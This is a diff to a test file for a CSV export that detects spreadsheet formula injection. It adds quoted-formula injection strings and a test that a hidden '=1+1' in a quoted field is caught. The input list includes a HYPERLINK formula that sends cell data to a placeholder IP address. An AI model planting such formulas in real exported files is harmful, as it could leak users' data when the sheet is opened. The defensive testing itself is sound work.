@@ -25,6 +25,9 @@ const formulas = [
   '- bread\n- milk',
   'a\r\n=1',
   'a\t@b',
+  'y;"=1+1;z',
+  '\'"=1',
+  '"""-1',
   '=HYPERLINK("http://192.0.2.1/?"&A1,"here")',
 ]
 
@@ -64,6 +67,8 @@ describe('a table as a file', () => {
   it('D81 has teeth: a file without our mark is found out', () => {
     const bare = new TextEncoder().encode('"Name"\r\n"a;=1"')
     expect(formulasIn(bare)).toEqual(['=1"'])
+    const quoted = new TextEncoder().encode('"Name"\r\n"y;""=1+1;z"')
+    expect(formulasIn(quoted)).toEqual(['=1+1'])
   })
 
   it('D80: begins with the mark of UTF-8, ends lines as RFC 4180 wants it, and leaves numbers numbers', () => {
